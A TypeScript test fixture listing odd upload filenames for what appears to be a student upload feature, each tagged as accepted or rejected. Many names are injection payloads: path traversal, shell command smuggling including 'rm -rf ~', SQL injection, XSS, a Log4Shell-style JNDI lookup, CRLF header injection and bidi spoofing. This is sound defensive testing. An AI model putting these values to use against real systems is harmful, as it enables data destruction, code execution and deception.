import { clean, contentTypes, turnedAway, type CorpusFile } from './corpusFile.ts'
import { makePlainPicture } from './makeImage.ts'

const note = (name: string, expected: CorpusFile['expected']): CorpusFile => ({
  name,
  contentType: contentTypes.txt,
  by: 'student',
  journey: 'upload',
  expected,
  make: async () => Buffer.from('The name is the interesting part of this file.\n'),
})

/**
 * Names that break paths, headers, pages or terminals. Those that cannot do harm are kept as they are; those
 * that lie to the eye or split a line are turned away.
 */
export const listOddNames = (): CorpusFile[] => [
  note('../../etc/passwd.txt', clean),
  note('C:\\temp\\notes.txt', clean),
  note('my "quoted"; filename=x.txt', clean),
  note('%2e%2e%2fnotes%00.txt', clean),
  note('👩🏽‍🏫 for you.txt', clean),
  note(`${'ä'.repeat(251)}.txt`, clean),
  {
    name: '<img src=x onerror=alert(1)>.png',
    contentType: contentTypes.png,
    by: 'student',
    journey: 'upload',
    expected: clean,
    make: () => makePlainPicture('png', { width: 32, height: 32 }, 9),
  },
  note('CON.txt', clean),
  note('nul.txt', clean),
  note('.hidden.txt', clean),
  note(' two spaces  .txt', clean),
  note("it's $(whoami) `id`.txt", clean),
  note('a;rm -rf ~|b&c.txt', clean),
  note("'; drop table attachments; --.txt", clean),
  note('${jndi:ldap://example.org/a}.txt', clean),
  note('{{7*7}}.txt', clean),
  note('%s%n%x.txt', clean),
  note('ｆｕｌｌｗｉｄｔｈ.txt', clean),
  note('Z̴a̷l̶g̸o̵.txt', clean),
  note('zero\u200bwidth.txt', clean),
  note('\ufeffmark.txt', clean),
  note('😀'.repeat(60) + '.txt', clean),
  note('report.pdf.exe.txt', clean),
  note(`${'ä'.repeat(252)}.txt`, turnedAway),
  note('invoice\u202efdp.txt', turnedAway),
  note('isolated\u2066fdp.txt', turnedAway),
  note('line\nbreak.txt', turnedAway),
  note('header\r\nSet-Cookie: a=b.txt', turnedAway),
  note('nul\u0000byte.txt', turnedAway),
  note('escape\u001b[2J.txt', turnedAway),
  note('paragraph\u2029.txt', turnedAway),
  note('half a pair \ud800.txt', turnedAway),
  note('   ', turnedAway),
]
